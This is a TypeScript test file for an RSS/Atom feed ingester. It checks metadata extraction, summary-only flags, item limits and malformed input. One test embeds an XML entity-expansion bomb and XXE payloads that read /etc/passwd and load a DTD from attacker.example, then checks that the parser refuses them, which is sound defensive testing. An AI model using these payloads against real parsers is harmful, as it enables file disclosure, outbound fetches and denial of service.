// Feeds: RSS 2.0, RSS 1.0 (RDF) and Atom items become documents with link, time, author and text; a summary-only
// item says so; entity declarations (expansion bombs, external entities) are refused, never resolved; a feed of
// 100,000 items is read in bounded time, the items past the limit reported.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { Analyzer } from '../src/analyze.js';
import type { IngestedDoc, IngestFailure } from '../src/ingest/document.js';
import { InputError } from '../src/ingest/decode.js';
import { MAX_FEED_ITEMS } from '../src/ingest/feed/parse.js';
import { readFeedString, SUMMARY_ONLY_NOTE } from '../src/ingest/feed/readFeed.js';
import { readAnyItems } from '../src/ingest/readAny.js';
import { spanIsValid } from '../src/model/span.js';

const FIX = join(import.meta.dirname, 'fixtures', 'feeds');
const docs = (items: Array<IngestedDoc | IngestFailure>) => items.filter((x): x is IngestedDoc => !('error' in x));

test('RSS 2.0: content:encoded as paragraphs and captions, author "email (Name)", summary-only item noted', () => {
  const items = docs(readAnyItems(join(FIX, 'rss2.xml')));
  assert.equal(items.length, 2);
  const [full, summary] = items as [IngestedDoc, IngestedDoc];
  assert.equal(full.id, 'mg-1001');
  assert.equal(full.url, 'https://metro-gazette.example/2024/05/library-hours');
  assert.deepEqual(full.source, { url: full.url });
  assert.equal(full.outlet, 'Metro Gazette & Times');
  assert.equal(full.structureHints!.published, '2024-05-13T18:30:00Z');
  assert.deepEqual(full.structureHints!.timezone, { name: '-04:00', assumed: false });
  assert.equal(full.structureHints!.language, 'en');
  assert.deepEqual(full.structureHints!.byline.map((b) => b.name), ['Renata Okafor']);
  assert.match(full.text, /^Library extends weekend opening hours\n\nBy Renata Okafor\n\nThe central library will open on Sundays from June, the city’s culture/);
  assert.ok(full.structureHints!.blocks.some((b) => b.type === 'caption' && b.span.text === 'The reading room of the central library.'));
  assert.deepEqual(full.notes, []);
  assert.deepEqual(summary.structureHints!.byline.map((b) => b.name), ['Dev Malhotra']);
  assert.ok(summary.notes.includes(SUMMARY_ONLY_NOTE));
  assert.match(summary.text, /pushed back to July\.$/);
  const r = new Analyzer().analyze(summary);
  assert.ok(r.notes.includes(SUMMARY_ONLY_NOTE), 'the record says the item was a summary');
  for (const d of items) for (const b of d.structureHints!.blocks) assert.ok(spanIsValid(d.text, b.span));
});

test('RSS 1.0 (RDF) and Atom: link, dc:date / published, dc:creator / author name, content vs summary', () => {
  const [comet] = docs(readAnyItems(join(FIX, 'rss1.rdf')));
  assert.equal(comet!.url, 'https://science-wire.example/comet');
  assert.equal(comet!.structureHints!.published, '2024-01-20T09:00:00Z');
  assert.deepEqual(comet!.structureHints!.byline.map((b) => b.name), ['Lucía Ferrer']);
  assert.equal(comet!.outlet, 'Science Wire');
  const [ferry, bridge] = docs(readAnyItems(join(FIX, 'atom.xml')));
  assert.equal(ferry!.url, 'https://rheinblatt.example/faehre');
  assert.equal(ferry!.id, 'urn:uuid:faehre-1');
  assert.equal(ferry!.structureHints!.published, '2024-04-02T06:00:00Z');
  assert.equal(ferry!.structureHints!.language, 'de');
  assert.match(ferry!.text, /wieder\.\n\nDas Hochwasser war zurückgegangen\.$/);
  assert.deepEqual(ferry!.notes, []);
  assert.ok(bridge!.notes.includes(SUMMARY_ONLY_NOTE));
  assert.equal(bridge!.date, '2024-04-01');
});

test('entity-expansion bombs and external entities are refused, never expanded or fetched', () => {
  const bomb = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><rss><channel><title>&lol2;</title><item><title>&lol2;</title></item></channel></rss>';
  const external = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>t</title><item><title>&x;</title><description>&x;</description></item></channel></rss>';
  const param = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss><channel><item><title>x</title></item></channel></rss>';
  for (const xml of [bomb, external, param]) {
    assert.throws(() => readFeedString(xml, 'f'), (e: Error) => e instanceof InputError && /entities/.test(e.message));
  }
  // Undeclared references stay as written; a plain DOCTYPE (RSS 0.91's) is ignored.
  const [doc] = docs(readFeedString('<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>T</title><item><title>A &amp; B &#8211; &x;</title><description>Text of the item.</description></item></channel></rss>', 'f'));
  assert.equal(doc!.structureHints!.headline?.text, 'A & B – &x;');
});

test(`a feed of 100,000 items: the first ${MAX_FEED_ITEMS} read in bounded time, the rest reported`, () => {
  const parts = ['<?xml version="1.0"?><rss version="2.0"><channel><title>Big</title>'];
  for (let i = 0; i < 100_000; i++) parts.push(`<item><title>Item ${i}</title><link>https://big.example/${i}</link><description>Text of item ${i} &amp; more.</description></item>`);
  parts.push('</channel></rss>');
  const t0 = Date.now();
  const items = readFeedString(parts.join(''), 'big.xml');
  assert.ok(Date.now() - t0 < 20_000, `took ${Date.now() - t0} ms`);
  const read = docs(items);
  assert.equal(read.length, MAX_FEED_ITEMS);
  assert.equal(read[9]!.text, 'Item 9\n\nText of item 9 & more.');
  const failure = items[items.length - 1] as IngestFailure;
  assert.match(failure.error, /90000 more items beyond the first 10000/);
});

test('malformed feeds: an item without title or text is reported, the others read; XML that is not a feed refused', () => {
  const items = readFeedString('<rss><channel><title>T</title><item></item><item><title>Good item</title><description>Fine.</description></item><item><title>Unclosed', 'f');
  assert.ok(items.some((x) => 'error' in x));
  assert.ok(docs(items).some((d) => d.text.startsWith('Good item')));
  assert.throws(() => readFeedString('<?xml version="1.0"?><svg><g/></svg>', 'f'), InputError);
});
